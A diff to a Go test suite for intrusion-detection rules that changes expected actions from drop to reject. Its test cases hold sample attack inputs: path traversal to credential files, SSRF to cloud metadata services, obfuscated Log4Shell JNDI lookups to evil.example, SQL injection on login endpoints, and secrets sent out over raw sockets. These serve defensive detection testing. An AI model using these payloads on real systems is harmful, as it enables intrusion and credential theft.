@@ -49,32 +49,32 @@ func cases() []ruleCase {
 	b64 := "Cookie: " + "kHQ3Rk9pZXRlZ0lzbG9vcGhvbGUrYmVhY29uK21ldGFkYXRhK2Jsb2I0Mg8/xyZA=="
 	return []ruleCase{
 		// ---- exploit.rules: path traversal ----
-		{sid: 9100001, action: inspect.ActionDrop,
+		{sid: 9100001, action: inspect.ActionReject,
 			pos: []example{tcp("dot-dot-slash", get("/v1/secrets/../../etc/passwd")), tcp("dot-dot-backslash", get(`/files/..\..\windows\win.ini`))},
 			neg: []example{tcp("double dot in file name", get("/v1/secret/data/app..json")), tcp("single dot segment", get("/v1/./secrets"))}},
-		{sid: 9100002, action: inspect.ActionDrop,
+		{sid: 9100002, action: inspect.ActionReject,
 			pos: []example{tcp("encoded dots", get("/v1/secrets/%2e%2e/%2e%2e/etc/passwd")), tcp("mixed dot and encoded dot", get("/v1/.%2E/token"))},
 			neg: []example{tcp("one encoded dot in a name", get("/files/report%2ejson"))}},
-		{sid: 9100003, action: inspect.ActionDrop,
+		{sid: 9100003, action: inspect.ActionReject,
 			pos: []example{tcp("encoded slash", get("/v1/secrets/..%2f..%2fetc%2fpasswd")), tcp("encoded backslash", get("/v1/..%5C..%5Cboot.ini"))},
 			neg: []example{tcp("dots then encoded space", get("/search?q=wait..%20what"))}},
-		{sid: 9100004, action: inspect.ActionDrop,
+		{sid: 9100004, action: inspect.ActionReject,
 			pos: []example{tcp("double-encoded dots", get("/download?file=%252e%252e%252fetc%252fpasswd")), tcp("double-encoded slash", get("/download?file=..%252f..%252fetc"))},
 			neg: []example{tcp("encoded percent sign", get("/search?q=100%25%20sure"))}},
-		{sid: 9100005, action: inspect.ActionDrop,
+		{sid: 9100005, action: inspect.ActionReject,
 			pos: []example{tcp("overlong dots", get("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"))},
 			neg: []example{tcp("valid UTF-8", get("/img/%c3%a9t%c3%a9.png"))}},
-		{sid: 9100006, action: inspect.ActionDrop,
+		{sid: 9100006, action: inspect.ActionReject,
 			pos: []example{tcp("path parameter", get("/api/read?path=/var/run/secrets/kubernetes.io/serviceaccount/token")),
 				tcp("encoded path parameter", get("/api/read?path=%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"))},
 			neg: []example{tcp("documentation page", get("/docs/kubernetes-serviceaccount-tokens"))}},
-		{sid: 9100007, action: inspect.ActionDrop,
+		{sid: 9100007, action: inspect.ActionReject,
 			pos: []example{tcp("self environ", get("/view?page=/proc/self/environ")), tcp("pid environ", get("/view?page=%2Fproc%2F1%2Fenviron"))},
 			neg: []example{tcp("environment API", get("/api/environments/prod"))}},
-		{sid: 9100008, action: inspect.ActionDrop,
+		{sid: 9100008, action: inspect.ActionReject,
 			pos: []example{tcp("aws credentials", get("/download?f=/home/runner/.aws/credentials")), tcp("git credentials", get("/download?f=%2Froot%2F.git-credentials"))},
 			neg: []example{tcp("credentials API without dot directory", get("/api/aws/credentials/rotate"))}},
-		{sid: 9100009, action: inspect.ActionDrop,
+		{sid: 9100009, action: inspect.ActionReject,
 			pos: []example{tcp("kubeconfig", get("/download?f=%2Froot%2F.kube%2Fconfig")), tcp("docker config", get("/download?f=/home/runner/.docker/config.json"))},
 			neg: []example{tcp("config API", get("/api/kube/config"))}},
 
@@ -96,135 +96,135 @@ func cases() []ruleCase {
 				tcp("Metadata false", get("/metadata/identity/oauth2/token?api-version=2018-02-01", "Host: 169.254.169.254", "Metadata: false"))}},
 
 		// ---- exploit.rules: metadata service in parameters and bodies ----
-		{sid: 9100030, action: inspect.ActionDrop,
+		{sid: 9100030, action: inspect.ActionReject,
 			pos: []example{tcp("url parameter", get("/fetch?url=http://169.254.169.254/"))},
 			neg: []example{tcp("other link-local address", get("/fetch?addr=169.254.169.1")), tcp("address in the path", get("/ip/169.254.169.254"))}},
-		{sid: 9100031, action: inspect.ActionDrop,
+		{sid: 9100031, action: inspect.ActionReject,
 			pos: []example{tcp("decimal address", get("/fetch?url=http://2852039166/")), tcp("IPv4-mapped IPv6", get("/fetch?url=http://[::ffff:a9fe:a9fe]/"))},
 			neg: []example{tcp("ordinary number", get("/orders?id=28520391"))}},
-		{sid: 9100032, action: inspect.ActionDrop,
+		{sid: 9100032, action: inspect.ActionReject,
 			pos: []example{tcp("url parameter", get("/fetch?url=http://Metadata.Google.Internal/"))},
 			neg: []example{tcp("partial name", get("/search?q=metadata.google"))}},
-		{sid: 9100033, action: inspect.ActionDrop,
+		{sid: 9100033, action: inspect.ActionReject,
 			pos: []example{tcp("literal", get("/fetch?url=http://[fd00:ec2::254]/")), tcp("percent-encoded", get("/fetch?url=http%3A%2F%2F%5Bfd00%3Aec2%3A%3A254%5D%2F"))},
 			neg: []example{tcp("neighbouring address", get("/fetch?url=http://[fd00:ec2::253]/"))}},
-		{sid: 9100034, action: inspect.ActionDrop,
+		{sid: 9100034, action: inspect.ActionReject,
 			pos: []example{tcp("AWS path via rebinding name", get("/fetch?url=http://metadata.attacker.example/latest/meta-data/iam/")),
 				tcp("GCP path encoded", get("/fetch?target=http%3A%2F%2Finternal%2FcomputeMetadata%2Fv1%2F")),
 				tcp("Azure path", get("/proxy?u=http://imds/metadata/identity/oauth2/token"))},
 			neg: []example{tcp("metadata path without a query", get("/latest/meta-data/", "Host: app.example.com"))}},
-		{sid: 9100035, action: inspect.ActionDrop,
+		{sid: 9100035, action: inspect.ActionReject,
 			pos: []example{tcp("webhook URL in JSON", post("/api/webhooks", `{"url":"http://169.254.169.254/latest/meta-data/"}`, "Content-Type: application/json"))},
 			neg: []example{tcp("other address", post("/api/webhooks", `{"url":"http://169.254.169.1/"}`, "Content-Type: application/json"))}},
-		{sid: 9100036, action: inspect.ActionDrop,
+		{sid: 9100036, action: inspect.ActionReject,
 			pos: []example{tcp("callback in JSON", post("/api/webhooks", `{"callback":"http://metadata.google.internal/computeMetadata/v1/"}`, "Content-Type: application/json"))},
 			neg: []example{tcp("partial name", post("/api/notes", `{"doc":"see metadata.google for details"}`, "Content-Type: application/json"))}},
 
 		// ---- exploit.rules: JNDI ----
-		{sid: 9100040, action: inspect.ActionDrop,
+		{sid: 9100040, action: inspect.ActionReject,
 			pos: []example{tcp("literal in query", get("/search?q=${jndi:ldap://203.0.113.5:1389/a}")), tcp("percent-encoded", get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"))},
 			neg: []example{tcp("word in path", get("/docs/jndi-lookup-guide"))}},
-		{sid: 9100041, action: inspect.ActionDrop,
+		{sid: 9100041, action: inspect.ActionReject,
 			pos: []example{tcp("custom header", get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}")), tcp("cookie", get("/", "Cookie: s=${JNDI:dns://evil.example/a}"))},
 			neg: []example{tcp("word in header", get("/", "X-Note: jndi lookups disabled"))}},
-		{sid: 9100042, action: inspect.ActionDrop,
+		{sid: 9100042, action: inspect.ActionReject,
 			pos: []example{tcp("form body", post("/search", "q=${jndi:rmi://203.0.113.5/a}")), tcp("encoded form body", post("/search", "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"))},
 			neg: []example{tcp("word in body", post("/search", "q=jndi+is+a+java+api"))}},
-		{sid: 9100043, action: inspect.ActionDrop,
+		{sid: 9100043, action: inspect.ActionReject,
 			pos: []example{tcp("nested lower", get("/", "User-Agent: ${${lower:j}ndi:${lower:l}dap://x/a}")),
 				tcp("default-value lookups", get("/", "X-Forwarded-For: ${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"))},
 			neg: []example{tcp("template variable", get("/", "X-Template: ${user}"))}},
-		{sid: 9100044, action: inspect.ActionDrop,
+		{sid: 9100044, action: inspect.ActionReject,
 			pos: []example{tcp("literal default-value lookup", get("/search?q=${::-j}${::-n}di")), tcp("literal nested lookup", get("/search?q=${${lower:j}ndi:ldap://x/a}"))},
 			neg: []example{tcp("template variable", get("/render?tmpl=${name}"))}},
-		{sid: 9100046, action: inspect.ActionDrop,
+		{sid: 9100046, action: inspect.ActionReject,
 			pos: []example{tcp("encoded nested lookup", get("/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D")), tcp("encoded default-value lookup", get("/search?q=%24%7b%3a%3a-j%7d"))},
 			neg: []example{tcp("encoded template variable", get("/render?tmpl=%24%7Bname%7D"))}},
-		{sid: 9100045, action: inspect.ActionDrop,
+		{sid: 9100045, action: inspect.ActionReject,
 			pos: []example{tcp("JSON body", post("/api/users", `{"name":"${${::-j}ndi:ldap://x/a}"}`, "Content-Type: application/json"))},
 			neg: []example{tcp("template variable", post("/api/users", `{"tmpl":"${name}"}`, "Content-Type: application/json"))}},
 
 		// ---- exploit.rules: SQL injection on token endpoints ----
-		{sid: 9100050, action: inspect.ActionDrop,
+		{sid: 9100050, action: inspect.ActionReject,
 			pos: []example{tcp("password grant", post("/oauth/token", "grant_type=password&username=admin'+OR+1%3D1--&password=x")),
 				tcp("JSON login", post("/api/v1/login", `{"user":"x' or 'a'='a","pass":"y"}`, "Content-Type: application/json"))},
 			neg: []example{tcp("apostrophe in a name", post("/oauth/token", "grant_type=password&username=o'reilly&password=or+not")),
 				tcp("same payload on a search endpoint", post("/api/search", "q=admin'+OR+1%3D1--"))}},
-		{sid: 9100051, action: inspect.ActionDrop,
+		{sid: 9100051, action: inspect.ActionReject,
 			pos: []example{tcp("union select", post("/login", "user=x'+UNION+SELECT+password+FROM+users--&pass=y")),
 				tcp("comment-separated", post("/token", "client_id=1/**/union/**/all/**/select/**/1"))},
 			neg: []example{tcp("words in a field", post("/login", "user=bob&note=labor+union+selection"))}},
-		{sid: 9100052, action: inspect.ActionDrop,
+		{sid: 9100052, action: inspect.ActionReject,
 			pos: []example{tcp("sleep", post("/oauth/token", "username=admin'+AND+SLEEP(5)--&password=x")),
 				tcp("waitfor", post("/login", "user=x';WAITFOR+DELAY+'0:0:5'--"))},
 			neg: []example{tcp("sleep without a number", post("/oauth/token", "username=sleepy&password=sleep(now)"))}},
-		{sid: 9100053, action: inspect.ActionDrop,
+		{sid: 9100053, action: inspect.ActionReject,
 			pos: []example{tcp("tautology in query", get("/login?user=admin%27%20OR%201%3D1--")),
 				tcp("union in query", get("/oauth/token?client_id=1+UNION+SELECT+secret+FROM+clients"))},
 			neg: []example{tcp("apostrophe in a name", get("/login?next=%2Fdashboard&user=O%27Neil")),
 				tcp("payload on another endpoint", get("/search?q=admin%27%20OR%201%3D1--"))}},
 
 		// ---- secrets.rules: raw stream ----
-		{sid: 9101001, action: inspect.ActionDrop,
+		{sid: 9101001, action: inspect.ActionReject,
 			pos: []example{tcp("shell export over a raw socket", "export AWS_ACCESS_KEY_ID="+awsKey+"\n"),
 				tcp("second request on a keep-alive connection", get("/health")+get("/v1/sync", "X-Api-Key: "+awsKey)),
 				tcp("SMTP message", "MAIL FROM:<ci@example.com>\r\nDATA\r\naws_access_key_id = "+awsKey+"\r\n.\r\n")},
 			neg: []example{to(internalAddr, tcp("to an internal host", "export AWS_ACCESS_KEY_ID="+awsKey+"\n")),
 				tcp("too short", "id=AKIAQ3EGRSTUVWXYZ2\n"), tcp("lower case", "id=AKIAq3egrstuvwxyz234\n")}},
-		{sid: 9101002, action: inspect.ActionDrop,
+		{sid: 9101002, action: inspect.ActionReject,
 			pos: []example{tcp("redis SET", "*3\r\n$3\r\nSET\r\n$3\r\nkey\r\n$20\r\n"+awsTmpKey+"\r\n")},
 			neg: []example{tcp("the word ASIA", "region=ASIA PACIFIC (SYDNEY)\n"), to(internalAddr, tcp("to an internal host", awsTmpKey+"\n"))}},
-		{sid: 9101003, action: inspect.ActionDrop,
+		{sid: 9101003, action: inspect.ActionReject,
 			pos: []example{tcp("git credential line", "https://x:"+ghpToken+"@github.com\n"),
 				tcp("HTTP Authorization header", get("/user", "Authorization: token "+ghpToken))},
 			neg: []example{tcp("too short", "ghp_"+strings.Repeat("x7Kq", 8)+"\n"), to(internalAddr, tcp("to an internal host", ghpToken+"\n"))}},
-		{sid: 9101004, action: inspect.ActionDrop,
+		{sid: 9101004, action: inspect.ActionReject,
 			pos: []example{tcp("raw", "GH_TOKEN="+ghFine+"\n")},
 			neg: []example{tcp("missing separator", "GH_TOKEN=github_pat_"+strings.Repeat("A1b2", 20)+"\n")}},
-		{sid: 9101005, action: inspect.ActionDrop,
+		{sid: 9101005, action: inspect.ActionReject,
 			pos: []example{tcp("raw", "PRIVATE-TOKEN: "+glToken+"\n")},
 			neg: []example{tcp("too short", "PRIVATE-TOKEN: glpat-Ab3_dE6\n")}},
-		{sid: 9101006, action: inspect.ActionDrop,
+		{sid: 9101006, action: inspect.ActionReject,
 			pos: []example{tcp("raw", "SLACK_TOKEN="+slackTok+"\n")},
 			neg: []example{tcp("other letter", "SLACK_TOKEN=xoxz-123456789012-1234567890123-AbCdEfGhIjKl\n")}},
-		{sid: 9101007, action: inspect.ActionDrop,
+		{sid: 9101007, action: inspect.ActionReject,
 			pos: []example{tcp("RSA key over netcat", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n"),
 				tcp("OpenSSH key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n")},
 			neg: []example{tcp("certificate", "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIE\n"), tcp("PGP key block", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF\n")}},
-		{sid: 9101008, action: inspect.ActionDrop,
+		{sid: 9101008, action: inspect.ActionReject,
 			pos: []example{tcp("raw", "GOOGLE_API_KEY="+googleKey+"\n")},
 			neg: []example{tcp("too short", "GOOGLE_API_KEY=AIzaSyD3-q9Z\n")}},
-		{sid: 9101009, action: inspect.ActionDrop,
+		{sid: 9101009, action: inspect.ActionReject,
 			pos: []example{tcp("raw", "STRIPE_KEY="+stripeKey+"\n")},
 			neg: []example{tcp("test-mode key", "STRIPE_KEY=sk_test_4eC39HqLyjWDarjtT1zdp7dc\n")}},
 
 		// ---- secrets.rules: de-chunked HTTP body (token split by chunk framing) ----
-		{sid: 9101101, action: inspect.ActionDrop,
+		{sid: 9101101, action: inspect.ActionReject,
 			pos: []example{tcp("split key", chunkedPost("/upload", "id="+awsKey[:8], awsKey[8:]+"&x=1"))},
 			neg: []example{to(internalAddr, tcp("to an internal host", chunkedPost("/upload", "id="+awsKey[:8], awsKey[8:]))), tcp("too short", chunkedPost("/upload", "id=AKIAQ3EG", "RSTUVW&x=1"))}},
-		{sid: 9101102, action: inspect.ActionDrop,
+		{sid: 9101102, action: inspect.ActionReject,
 			pos: []example{tcp("split key", chunkedPost("/upload", "id="+awsTmpKey[:6], awsTmpKey[6:]))},
 			neg: []example{tcp("the word ASIA", chunkedPost("/upload", "region=ASIA", "+PACIFIC"))}},
-		{sid: 9101103, action: inspect.ActionDrop,
+		{sid: 9101103, action: inspect.ActionReject,
 			pos: []example{tcp("split token", chunkedPost("/gist", "token="+ghpToken[:10], ghpToken[10:]))},
 			neg: []example{tcp("too short", chunkedPost("/gist", "token=ghp_x7Kq", "x7Kq"))}},
-		{sid: 9101104, action: inspect.ActionDrop,
+		{sid: 9101104, action: inspect.ActionReject,
 			pos: []example{tcp("split token", chunkedPost("/gist", "token="+ghFine[:40], ghFine[40:]))},
 			neg: []example{tcp("missing separator", chunkedPost("/gist", "token=github_pat_"+strings.Repeat("A1b2", 10), strings.Repeat("A1b2", 10)))}},
-		{sid: 9101105, action: inspect.ActionDrop,
+		{sid: 9101105, action: inspect.ActionReject,
 			pos: []example{tcp("split token", chunkedPost("/api", "t="+glToken[:9], glToken[9:]))},
 			neg: []example{tcp("too short", chunkedPost("/api", "t=glpat-", "Ab3"))}},
-		{sid: 9101106, action: inspect.ActionDrop,
+		{sid: 9101106, action: inspect.ActionReject,
 			pos: []example{tcp("split token", chunkedPost("/api", "t="+slackTok[:12], slackTok[12:]))},
 			neg: []example{tcp("other letter", chunkedPost("/api", "t=xoxz-1234", "56789012-1234567890123-AbCdEfGhIjKl"))}},
-		{sid: 9101107, action: inspect.ActionDrop,
+		{sid: 9101107, action: inspect.ActionReject,
 			pos: []example{tcp("form-encoded key", post("/api/keys", "name=deploy&key=-----BEGIN+OPENSSH+PRIVATE+KEY-----%0Ab3BlbnNzaC1rZXktdjE")),
 				tcp("split key header", chunkedPost("/api/keys", "key=-----BEGIN RSA PRI", "VATE KEY-----\nMIIE"))},
 			neg: []example{tcp("form-encoded public key", post("/api/keys", "name=deploy&key=-----BEGIN+PUBLIC+KEY-----%0AMIIBIjAN"))}},
-		{sid: 9101108, action: inspect.ActionDrop,
+		{sid: 9101108, action: inspect.ActionReject,
 			pos: []example{tcp("split key", chunkedPost("/api", "k="+googleKey[:7], googleKey[7:]))},
 			neg: []example{tcp("too short", chunkedPost("/api", "k=AIza", "SyD3"))}},
-		{sid: 9101109, action: inspect.ActionDrop,
+		{sid: 9101109, action: inspect.ActionReject,
 			pos: []example{tcp("split key", chunkedPost("/api", "k="+stripeKey[:12], stripeKey[12:]))},
 			neg: []example{tcp("test-mode key", chunkedPost("/api", "k=sk_test_", "4eC39HqLyjWDarjtT1zdp7dc"))}},
 
@@ -352,7 +352,7 @@ func TestRuleExamples(t *testing.T) {
 
 // TestSecretsRawAndBodyOverlap pins what secrets.rules documents: an
 // unchunked HTTP body carrying a credential fires both the raw-stream rule
-// and the HTTP body rule, and the flow is dropped.
+// and the HTTP body rule, and the flow is rejected (the client gets a RST).
 func TestSecretsRawAndBodyOverlap(t *testing.T) {
 	p := loadPack(t)
 	for _, tc := range []struct {
@@ -367,7 +367,7 @@ func TestSecretsRawAndBodyOverlap(t *testing.T) {
 		t.Run(tc.name, func(t *testing.T) {
 			got := run(p.engine, tcp(tc.name, post("/upload", "k="+tc.token+"&x=1")), 0)
 			assert.Equal(t, tc.want, got.list())
-			assert.Equal(t, inspect.ActionDrop, got.action)
+			assert.Equal(t, inspect.ActionReject, got.action)
 		})
 	}
 }
@@ -440,10 +440,21 @@ var fileRanges = map[string][2]uint32{
 	"scanner.rules": {9103000, 9103999},
 }
 
+// fileActions is each file's documented actions: a client whose request
+// is refused gets a RST at once (a CI job fails with a clear error instead
+// of hanging until its timeout); only a C2 beacon is answered with silence.
+var fileActions = map[string][]inspect.Action{
+	"exploit.rules": {inspect.ActionReject, inspect.ActionAlert},
+	"secrets.rules": {inspect.ActionReject},
+	"c2.rules":      {inspect.ActionDrop, inspect.ActionAlert},
+	"scanner.rules": {inspect.ActionAlert},
+}
+
 // TestPackConventions checks what operators and the EVE output rely on:
 // unique sids in the file's range, a rev, the INTERDICT prefix, a known
-// classtype, metadata with created_at and category, an action of drop or
-// alert, and a header comment that documents the file's actions.
+// classtype, metadata with created_at and category, an action the file's
+// header allows (reject or alert for exploits and secrets, drop or alert
+// for c2, alert for scanners), and a header comment that documents the file's actions.
 func TestPackConventions(t *testing.T) {
 	p := loadPack(t)
 	seen := map[uint32]string{}
@@ -468,7 +479,7 @@ func TestPackConventions(t *testing.T) {
 			assert.NotEmpty(t, in.Category, where)
 			assert.Len(t, in.Metadata["created_at"], 1, where)
 			assert.Len(t, in.Metadata["category"], 1, where)
-			assert.Contains(t, []inspect.Action{inspect.ActionDrop, inspect.ActionAlert}, in.Action, where)
+			assert.Contains(t, fileActions[in.File], in.Action, where)
 		})
 	}
 	for _, name := range RuleFiles() {
